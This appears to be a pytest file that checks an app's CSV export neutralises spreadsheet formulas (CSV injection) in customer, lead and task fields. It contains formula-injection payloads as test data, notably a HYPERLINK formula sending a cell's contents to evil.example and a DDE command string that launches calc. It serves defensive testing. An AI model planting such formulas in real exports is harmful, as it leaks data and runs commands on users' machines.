"""app/exports.py: no exported cell is a formula (OWASP CSV injection), through the real export."""

import csv
import io
import uuid
from datetime import datetime, timezone
from decimal import Decimal

import pytest

from app.exports import cell, csv_line, neutralise
from models.task import TaskStatus

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"click")'


@pytest.mark.parametrize("text", [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1", "  =1+1",
                                  "=cmd|' /C calc'!A0", "-"])
def test_formula_starts_are_neutralised(text):
    assert neutralise(text) == "'" + text
    assert cell(text) == "'" + text


@pytest.mark.parametrize("text", ["株式会社テスト", "a=b", "info@example.jp", "03-1234-5678", "", "'quoted"])
def test_plain_text_is_kept(text):
    assert neutralise(text) == text


def test_typed_values_stay_typed():
    when = datetime(2026, 4, 1, 9, 30, tzinfo=timezone.utc)
    assert cell(None) is None and cell(-5) == -5 and cell(Decimal("-1.50")) == Decimal("-1.50") and cell(when) == when
    assert cell(True) is True
    assert cell(TaskStatus.TODO) == "TODO"


def test_csv_line_quotes_and_neutralises():
    line = csv_line([HYPERLINK, None, Decimal("1000000.00"), datetime(2026, 4, 1, tzinfo=timezone.utc), "普通"])
    assert next(csv.reader(io.StringIO(line))) == ["'" + HYPERLINK, "", "1000000", "2026-04-01T00:00:00+00:00", "普通"]


def _export(client, auth, kind, role="manager"):
    resp = client.get(f"/api/reports/export/{kind}", headers=auth(role))
    assert resp.status_code == 200
    return list(csv.DictReader(io.StringIO(resp.get_data().decode("utf-8-sig"))))


def test_hyperlink_customer_is_text_in_the_managers_csv(client, auth, db):
    resp = client.post("/api/customers", json={"name": HYPERLINK, "industry": "@SUM(1+1)", "address": "-1+1"},
                       headers=auth("sales"))
    assert resp.status_code == 201, resp.json
    rows = {r["id"]: r for r in _export(client, auth, "customers")}
    row = rows[resp.json["id"]]
    assert (row["name"], row["industry"], row["address"]) == ("'" + HYPERLINK, "'@SUM(1+1)", "'-1+1")
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows.values() for v in r.values())


def test_a_self_registered_name_that_becomes_a_lead_is_text(client, auth, db):
    email = f"attacker-{uuid.uuid4().hex[:8]}@example.com"
    resp = client.post("/api/auth/register", json={"email": email, "password": "pass-12345", "name": HYPERLINK})
    assert resp.status_code == 201, resp.json
    rows = [r for r in _export(client, auth, "customers") if r["email"] == email]
    assert len(rows) == 1  # the USER_CREATED reaction made the lead
    assert rows[0]["name"].startswith("'=HYPERLINK(")
    # The lead's first-contact task and a request's free text are exported the same way.
    resp = client.post("/api/tasks", json={"title": "=1+1", "description": "+cmd"}, headers=auth("sales"))
    assert resp.status_code == 201
    task = next(r for r in _export(client, auth, "tasks") if r["id"] == resp.json["id"])
    assert (task["title"], task["description"]) == ("'=1+1", "'+cmd")
